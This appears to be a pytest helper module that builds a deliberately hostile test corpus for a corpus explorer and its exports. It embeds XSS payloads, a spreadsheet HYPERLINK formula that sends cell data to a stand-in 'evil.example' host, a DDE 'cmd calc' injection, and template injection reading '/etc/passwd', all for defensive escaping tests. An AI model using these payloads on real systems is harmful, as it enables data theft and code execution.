"""The corpora that the tests of explorer, exports and questions look at: the replica's, and a hostile one."""

from __future__ import annotations

import socket
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import pytest

from examples.replica.corpus import corpus_of_replica
from pipelines.corpus.schema import open_corpus
from pipelines.intake.intake import Reading, store_reading
from pipelines.record import record_of
from pipelines.values.article import Article
from pipelines.values.page import Page
from tests.paths import ROOT

SCRIPT = "<script>window.hurt = 1</script><img src=x onerror='window.hurt = 1'>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1;"hỗ trợ")'
_cache: dict[str, Path] = {}


def replica_corpus(folder: Path) -> Path:
    """Path of the replica corpus, built once per test run."""
    if "replica" not in _cache:
        path = folder / "corpus.db"
        corpus_of_replica(path).close()
        _cache["replica"] = path
    return _cache["replica"]


def hostile_corpus(path: Path) -> dict[str, int]:
    """A corpus of pages that mean harm; returns article ids by what is wrong with them."""
    corpus = open_corpus(path)
    odd = "Năm 2016 Lạng Sơn hỗ trợ 1,42 tỷ đồng \u202egnôđ\u202c \u0000\ufeff\u200b 👩‍🏭 ﷽ e\u0301\u0323"
    pages = {
        "script": (f"{SCRIPT} Khuyến công", f"Năm 2016, Lạng Sơn hỗ trợ 1,42 tỷ đồng. {SCRIPT} </p></main><svg onload=alert(1)>"),
        "formula": (FORMULA, "+cmd|' /C calc'!A0\n@SUM(1+1)\n-2+3\nNăm 2017, Yên Bái chi 3 tỷ đồng."),
        "huge": ("Bài rất dài", "Năm 2018, tỉnh Cao Bằng hỗ trợ 5 triệu đồng cho 2 hộ. " * 1_900),
        "odd": (odd.replace("\u0000", ""), odd.replace("\u0000", "")),
        "template": ("{{ 7 * 7 }} {% raw %}", "{{ config }} {% include '/etc/passwd' %} năm 2019"),
    }
    for name, (title, text) in pages.items():
        url = f"https://hostile.example/{name}?a=<b>&\"'"
        article = Article(title, (text,), byline=SCRIPT, credit=FORMULA, flags=(SCRIPT,))
        store_reading(corpus, Reading(record_of(article, Page(url, b"")), url))
    corpus.execute("UPDATE articles SET url = 'javascript:window.hurt=1' WHERE title = ?", [FORMULA])
    ids = {name: corpus.execute("SELECT id FROM articles WHERE title = ?", [title]).fetchone()[0] for name, (title, _) in pages.items()}
    corpus.close()
    return ids


def serve(corpus_db: Path) -> tuple[subprocess.Popen[bytes], str]:
    """`corpus explore` in a process of its own, as a person starts it."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    command = [sys.executable, "-m", "crawler.cli", "explore", "--corpus-db", str(corpus_db), "--port", str(port)]
    process = subprocess.Popen(command, cwd=ROOT, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    base = f"http://127.0.0.1:{port}"
    for _ in range(600):
        try:
            with urllib.request.urlopen(base + "/-/versions.json", timeout=5):
                return process, base
        except OSError:
            time.sleep(0.2)
    process.kill()
    process.wait()
    pytest.fail("the explorer did not start within two minutes")
